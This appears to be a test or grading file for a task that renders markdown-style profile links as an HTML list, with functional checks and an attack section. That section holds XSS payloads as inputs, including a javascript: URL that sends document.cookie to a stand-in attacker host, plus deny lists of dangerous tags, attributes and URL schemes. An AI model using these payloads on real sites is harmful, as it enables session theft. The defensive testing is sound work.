import re
from html.parser import HTMLParser

from secgap_check import CheckFailed, check, check_eq

from solution import render_links


class _Page(HTMLParser):
    """Reads the rendered HTML the way a browser would build elements."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, attrs) for every start tag
        self.items = []  # per <li>: {"hrefs": [...], "text": str}
        self.uls = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        if tag == "ul":
            self.uls.append(dict(attrs))
        elif tag == "li":
            self.items.append({"hrefs": [], "text": ""})
        elif tag == "a" and self.items:
            self.items[-1]["hrefs"].append(dict(attrs).get("href"))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        if self.items:
            self.items[-1]["text"] += data


def _page(text):
    html = render_links(text)
    check(isinstance(html, str), "render_links must return a str, got %r" % (html,))
    page = _Page()
    page.feed(html)
    page.close()
    check_eq(len(page.uls), 1, "number of <ul> elements in %r" % html)
    check_eq((page.uls[0].get("class") or "").split(), ["links"], "class of the <ul>")
    return page, html


def _link(item):
    check_eq(len(item["hrefs"]), 1, "links in the list item %r" % item)
    return item["hrefs"][0]


def renders_links_in_order():
    page, html = _page(
        "[My blog](https://blog.example.com)\n"
        "[Shop](http://shop.example.org/alice)\n"
        "[Code](https://git.example.net/alice/)\n"
    )
    check_eq(len(page.items), 3, "list items in %r" % html)
    expected = [
        ("https://blog.example.com", "My blog"),
        ("http://shop.example.org/alice", "Shop"),
        ("https://git.example.net/alice/", "Code"),
    ]
    for item, (url, label) in zip(page.items, expected):
        check_eq(_link(item), url, "href of %r" % label)
        check_eq(item["text"], label, "text of the link to %s" % url)


def urls_with_queries_parentheses_and_mailto():
    lines = [
        ("Search", "https://example.com/search?q=green+tea&page=2#results"),
        ("Tea", "https://en.wikipedia.org/wiki/Tea_(disambiguation)"),
        ("Say hi", "mailto:alice@example.com"),
        ("My other profile", "/u/alice-art"),
        ("Percent", "https://example.com/a%20b?x=%C3%A9"),
    ]
    page, html = _page("\n".join("  [%s](%s)  " % pair for pair in lines))
    check_eq(len(page.items), len(lines), "list items in %r" % html)
    for item, (label, url) in zip(page.items, lines):
        check_eq(_link(item), url, "href of %r" % label)
        check_eq(item["text"], label, "text of the link %r" % label)


def labels_are_plain_text():
    lines = [
        ("I <3 tea & cake", "https://tea.example.com"),
        ("a <b>bold</b> move", "https://bold.example.com"),
        ('Tom\'s "best" page', "https://tom.example.com"),
    ]
    page, html = _page("\n".join("[%s](%s)" % pair for pair in lines))
    check_eq(len(page.items), 3, "list items in %r" % html)
    for item, (label, url) in zip(page.items, lines):
        check_eq(item["text"], label, "label shown for %s" % url)
        check_eq(_link(item), url, "href of %r" % label)
    check("b" not in [tag for tag, _ in page.elements], "the label's <b> became an element: %r" % html)


def other_lines_and_blank_lines():
    text = "\n".join(
        [
            "",
            "Find me at the tea market on Sundays",
            "   ",
            "[no url]()",
            "[](https://empty-label.example.com)",
            "I <3 tea & cake",
            "[Blog](https://blog.example.com)",
            "(https://no-label.example.com)",
            "",
        ]
    )
    page, html = _page(text)
    texts = [
        "Find me at the tea market on Sundays",
        "[no url]()",
        "[](https://empty-label.example.com)",
        "I <3 tea & cake",
        "Blog",
        "(https://no-label.example.com)",
    ]
    check_eq([i["text"] for i in page.items], texts, "text of each list item in %r" % html)
    check_eq([len(i["hrefs"]) for i in page.items], [0, 0, 0, 0, 1, 0], "links in each list item")
    check_eq(_link(page.items[4]), "https://blog.example.com", "href of the one link")
    page, html = _page("")
    check_eq(page.items, [], "list items for an empty text")
    page, html = _page("\n  \n")
    check_eq(page.items, [], "list items for blank lines only")


# --- attacks -------------------------------------------------------------

_C0_AND_SPACE = "".join(chr(i) for i in range(0x21))
_ACTIVE_TAGS = {"script", "img", "svg", "iframe", "object", "embed", "style", "body", "math", "form", "base", "meta"}
_ACTIVE_ATTRS = {"style", "srcdoc", "formaction", "src"}


def _browser_scheme(href):
    """The URL scheme a browser would use for this href value."""
    url = href.strip(_C0_AND_SPACE)
    url = re.sub(r"[\t\n\r]", "", url)
    m = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", url)
    return m.group(1).lower() if m else None


def _safe_page(text):
    html = render_links(text)
    page = _Page()
    page.feed(str(html))
    page.close()
    for tag, attrs in page.elements:
        check(tag not in _ACTIVE_TAGS, "the profile page got a <%s> element: %r" % (tag, html))
        for name, value in attrs:
            check(not name.startswith("on"), "the profile page got an %s= attribute: %r" % (name, html))
            check(name not in _ACTIVE_ATTRS, "the profile page got a %s= attribute: %r" % (name, html))
            if name in ("href", "action", "xlink:href") and value is not None:
                scheme = _browser_scheme(value)
                check(
                    scheme not in ("javascript", "vbscript", "data"),
                    "the profile page links to a %s: URL: %r" % (scheme, html),
                )
    return page


def _each(urls):
    for url in urls:
        try:
            _safe_page("[My blog](https://blog.example.com)\n[click me](%s)\n" % url)
        except CheckFailed:
            raise
        except Exception:
            pass  # refusing the whole text is a safe answer too


def javascript_url():
    _each(["javascript:alert(document.cookie)", "javascript:fetch('//evil.example/'+document.cookie)"])


def javascript_url_obfuscated():
    _each(
        [
            "JavaScript:alert(1)",
            "JAVASCRIPT:alert(1)",
            " javascript:alert(1)",
            "\x01javascript:alert(1)",
            "java\tscript:alert(1)",
            "java&#x0A;script:alert(1)",
            "javascript&colon;alert(1)",
            "&#106;avascript:alert(1)",
        ]
    )


def data_and_vbscript_urls():
    _each(
        [
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
            "vbscript:msgbox(1)",
        ]
    )


def quote_breaks_out_of_href():
    _each(
        [
            'https://example.com/" onmouseover="alert(1)',
            'https://example.com/"onfocus="alert(1)" autofocus="',
            "https://example.com/' onmouseover='alert(1)",
            'https://example.com/"><script>alert(1)</script>',
            'https://example.com/"><img src=x onerror=alert(1)>',
        ]
    )
